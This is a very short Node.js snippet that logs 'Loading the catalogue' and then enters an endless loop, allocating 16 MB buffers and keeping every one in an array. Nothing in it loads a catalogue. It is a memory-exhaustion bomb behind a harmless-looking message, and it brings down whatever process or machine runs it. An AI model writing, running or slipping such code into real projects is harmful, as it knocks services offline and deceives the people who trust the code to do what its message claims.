console.log('Loading the catalogue')
const parts = []
for (;;) parts.push(Buffer.alloc(16 << 20, 1))
